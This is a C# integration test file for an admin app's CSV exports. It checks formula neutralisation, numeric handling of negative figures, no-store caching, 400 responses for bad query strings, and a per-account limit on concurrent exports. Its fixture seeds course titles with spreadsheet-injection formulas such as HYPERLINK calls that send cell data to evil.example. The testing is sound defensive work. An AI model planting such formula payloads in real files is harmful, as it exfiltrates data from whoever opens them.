using System.Net;
using System.Net.Http.Headers;
using Dapper;
using TechCourse.Admin.Infrastructure.Auth;
using TechCourse.Admin.Tests.Support;

namespace TechCourse.Admin.Tests.Security;

// Issue 19, sections 5 and 7, over HTTP: every CSV export neutralises formulas and keeps numbers numbers, is never
// cached, refuses a bad query string with a 400 before its first byte, and runs at most two at a time per account.
[Trait("Category", "Security")]
public sealed class CsvExportSecurityTests(CsvExportSecurityTests.App app) : IClassFixture<CsvExportSecurityTests.App>
{
    public static readonly TheoryData<string> Prefixes = new() { "=", "+", "-", "@", "\t", "\r" };

    public static TheoryData<string, string> ExportsAndPrefixes()
    {
        var data = new TheoryData<string, string>();
        foreach (var export in new[] { "sales/by-course", "sales/courses-in-range", "sales/by-instructor", "enrollments.csv", "audit.csv" })
            foreach (var prefix in new[] { "=", "+", "-", "@", "\t", "\r" })
                data.Add(export, prefix);
        return data;
    }

    public static TheoryData<string> Exports() => new()
    {
        "sales/by-day", "sales/by-course", "sales/courses-in-range", "sales/by-instructor", "enrollments.csv", "audit.csv",
    };

    [Theory]
    [MemberData(nameof(ExportsAndPrefixes))]
    public async Task A_value_that_starts_like_a_formula_reaches_the_csv_as_text(string export, string prefix)
    {
        var body = await app.DownloadAsync(export);

        // by-instructor names instructors; every other export names the course (and the audit log the reason too).
        var value = export == "sales/by-instructor" ? app.Email(prefix) : app.Title(prefix);
        Assert.Contains("'" + value, body, StringComparison.Ordinal);
        foreach (var start in new[] { ",", ",\"", "\n", "\n\"" })
            Assert.DoesNotContain(start + value, body, StringComparison.Ordinal);
        if (export == "audit.csv") Assert.Contains("'" + app.Reason(prefix), body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Negative_figures_stay_numbers_in_the_csv()
    {
        var audit = await app.DownloadAsync("audit.csv");

        Assert.Contains(",12,9,-3,-25.0,", audit, StringComparison.Ordinal);
        Assert.DoesNotContain("'-3", audit, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Exports))]
    public async Task Every_export_tells_caches_not_to_store_it(string export)
    {
        using var response = await app.Admin.GetAsync(new Uri(app.Url(export), UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.True(response.Headers.CacheControl?.NoStore, $"Cache-Control: {response.Headers.CacheControl}");
    }

    [Theory]
    [InlineData("/exports/audit.csv?to=9999-12-31", "to must be a day from")]
    [InlineData("/exports/audit.csv?from=0001-01-01&tz=Asia/Tokyo", "from must be a day from")]
    [InlineData("/exports/audit.csv?from=0001-01-01&tz=America/New_York", "from must be a day from")]
    [InlineData("/exports/audit.csv?tz=Mars/Olympus_Mons", "tz must be a time zone")]
    [InlineData("/exports/audit.csv?course=abc", "course must be a number")]
    [InlineData("/exports/audit.csv?actor=someone", "actor must be a user id")]
    [InlineData("/exports/audit.csv?direction=sideways", "direction must be one of")]
    [InlineData("/exports/audit.csv?minpct=-5", "minpct must be a number")]
    [InlineData("/exports/audit.csv?from=2026-02-01&to=2026-01-01", "to is before from")]
    [InlineData("/exports/enrollments.csv?from=0001-01-01T00:00:00%2B05:00", "from must be an instant")]
    [InlineData("/exports/enrollments.csv?to=9999-12-31T23:59:59-05:00", "to must be an instant")]
    [InlineData("/exports/enrollments.csv?from=2026-01-01", "from must be an instant")]
    [InlineData("/exports/enrollments.csv?courseId=abc", "courseId must be a number")]
    [InlineData("/exports/enrollments.csv?courseId=1&courseId=2", "Give courseId once")]
    [InlineData("/exports/enrollments.csv?studentId=not-a-guid", "studentId must be an id")]
    [InlineData("/exports/sales/by-day?from=0001-01-01&to=0001-01-02&zone=Asia/Tokyo", "from must be a day from 2000-01-01 to 2037-12-31")]
    [InlineData("/exports/sales/by-day?from=2026-01-01&to=9999-12-31&zone=UTC", "to must be a day from 2000-01-01")]
    [InlineData("/exports/sales/by-day?from=2026-01-01", "from and to are needed")]
    [InlineData("/exports/sales/courses-in-range?from=2026-01-01&to=2026-01-31&zone=Nowhere", "is not an IANA time zone")]
    [InlineData("/exports/sales/by-course?from=2026-01-01&to=2026-01-31&sort=99", "sort must be one of")]
    [InlineData("/exports/sales/by-course?from=2026-01-01&to=2026-01-31&desc=maybe", "desc must be true or false")]
    [InlineData("/exports/sales/by-course?from=2026-01-01&to=2026-01-31&search=a%00b", "search must be at most 200 characters, without control characters")]
    public async Task A_bad_query_string_is_refused_with_a_400_and_a_message_before_the_file_starts(string url, string message)
    {
        using var response = await app.Admin.GetAsync(new Uri(url, UriKind.Relative));
        var body = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("text/plain", response.Content.Headers.ContentType?.MediaType);
        Assert.Null(response.Content.Headers.ContentDisposition);
        Assert.Contains(message, body, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/exports/audit.csv?from=2020-01-01&to=2037-12-31&tz=Asia/Tokyo")]
    [InlineData("/exports/audit.csv?from=2020-01-01&tz=America/St_Johns")]
    [InlineData("/exports/enrollments.csv?from=2020-01-01T00:00:00%2B05:30&to=2037-12-31T00:00:00-03:00")]
    public async Task A_range_in_any_time_zone_downloads_the_whole_file(string url)
    {
        using var response = await app.Admin.GetAsync(new Uri(url, UriKind.Relative));
        var body = await response.Content.ReadAsStringAsync();

        // Each of the six courses changed price once and has one enrollment: a row each, to the end of the file.
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(6, body.Split("HYPERLINK(").Length - 1);
        Assert.EndsWith("\r\n", body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_third_export_of_one_account_while_two_run_gets_a_429_saying_an_export_is_already_running()
    {
        await using var owner = await app.Database.DataSource.OpenConnectionAsync();
        await using var hold = await owner.BeginTransactionAsync();
        await owner.ExecuteAsync("LOCK TABLE enrollments IN ACCESS EXCLUSIVE MODE", transaction: hold);
        var running = new[] { app.SendAsync(app.Admin, "enrollments.csv"), app.SendAsync(app.Admin, "enrollments.csv") };
        await Eventually.WaitForAsync(async () => await app.WaitingExportsAsync() == 2, TimeSpan.FromSeconds(20), "two exports to wait on the lock");

        using var third = await app.Admin.GetAsync(new Uri(app.Url("sales/by-course"), UriKind.Relative));
        var otherAccount = app.SendAsync(app.OtherAdmin, "enrollments.csv");
        await Eventually.WaitForAsync(async () => await app.WaitingExportsAsync() == 3, TimeSpan.FromSeconds(20), "the other account's export to start");
        await hold.RollbackAsync();
        var finished = await Task.WhenAll([.. running, otherAccount]);
        using var afterwards = await app.Admin.GetAsync(new Uri(app.Url("enrollments.csv"), UriKind.Relative));

        Assert.Equal(HttpStatusCode.TooManyRequests, third.StatusCode);
        Assert.Contains("already running for your account", await third.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.All(finished, r => Assert.Equal(HttpStatusCode.OK, r.StatusCode));
        Assert.Equal(HttpStatusCode.OK, afterwards.StatusCode);
    }

    public sealed class App : IAsyncLifetime
    {
        private const string Password = "Export-Security-Pass-2026!";
        private TestApp? process;
        private readonly string tag = Guid.NewGuid().ToString("N")[..6];

        public TestDatabase Database { get; private set; } = null!;
        public HttpClient Admin { get; private set; } = null!;
        public HttpClient OtherAdmin { get; private set; } = null!;

        // As the title appears inside a quoted CSV field (its quotes doubled); the course is stored with single quotes.
        public string Title(string prefix) => $"{prefix}HYPERLINK(\"\"http://evil.example/?d=\"\"&A2) {tag}{(int)prefix[0]}";
        public string Email(string prefix) => $"{prefix}cmd{(int)prefix[0]}-{tag}@evil.example";
        public string Reason(string prefix) => $"{prefix}SUM(A1:A9) {tag}{(int)prefix[0]}";

        public string Url(string export)
        {
            var day = DateTime.UtcNow.ToString("yyyy-MM-dd", null);
            return export.StartsWith("sales/", StringComparison.Ordinal) ? $"/exports/{export}?from={day}&to={day}&zone=UTC" : $"/exports/{export}";
        }

        public async Task InitializeAsync()
        {
            Database = await TestDatabase.CreateAsync();
            await using (var owner = await Database.DataSource.OpenConnectionAsync())
            {
                await StaffAccounts.CreateOrResetAsync(owner, $"other-admin-{tag}@techcourse.com", StaffRoles.Admin, Password, CancellationToken.None);
                var student = await owner.ExecuteScalarAsync<Guid>("INSERT INTO users (email) VALUES (@email) RETURNING user_id", new { email = $"student-{tag}@example.com" });
                foreach (var prefix in new[] { "=", "+", "-", "@", "\t", "\r" })
                {
                    var title = Title(prefix).Replace("\"\"", "\"", StringComparison.Ordinal);
                    var instructor = await owner.ExecuteScalarAsync<Guid>("INSERT INTO users (email, role) VALUES (@email, 'Instructor') RETURNING user_id", new { email = Email(prefix) });
                    var course = await owner.ExecuteScalarAsync<int>("INSERT INTO courses (instructor_id, title, price, is_published) VALUES (@instructor, @title, 12, true) RETURNING course_id",
                        new { instructor, title });
                    await owner.ExecuteAsync("INSERT INTO enrollments (student_id, course_id, amount_paid) VALUES (@student, @course, 12)", new { student, course });
                    await owner.ExecuteAsync("""
                        INSERT INTO price_changes (course_id, old_price, new_price, source, reason) VALUES (@course, 12, 9, 'psql', @reason)
                        """, new { course, reason = Reason(prefix) });
                }
            }
            process = await ExternalApp.StartAsync(Database, new Dictionary<string, string> { ["Exports__MaxConcurrentPerUser"] = "2" });
            Admin = await ExternalApp.SignedInClientAsync(process);
            OtherAdmin = ExternalApp.NewClient(process);
            Assert.Equal(HttpStatusCode.Redirect, (await ExternalApp.PostSignInAsync(OtherAdmin, $"other-admin-{tag}@techcourse.com", Password)).StatusCode);
        }

        public async Task<string> DownloadAsync(string export)
        {
            using var response = await Admin.GetAsync(new Uri(Url(export), UriKind.Relative));
            var body = await response.Content.ReadAsStringAsync();
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{export}: {(int)response.StatusCode} {body}");
            return body;
        }

        public Task<HttpResponseMessage> SendAsync(HttpClient client, string export) => client.GetAsync(new Uri(Url(export), UriKind.Relative));

        // Statements of the app waiting on a lock (the exports the test holds up).
        public async Task<long> WaitingExportsAsync()
        {
            await using var connection = await Database.DataSource.OpenConnectionAsync();
            return await connection.ExecuteScalarAsync<long>(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND wait_event_type = 'Lock' AND query ILIKE '%FROM enrollments%'");
        }

        public async Task DisposeAsync()
        {
            Admin?.Dispose();
            OtherAdmin?.Dispose();
            if (process is not null) await process.DisposeAsync();
            if (Database is not null) await Database.DisposeAsync();
        }
    }
}
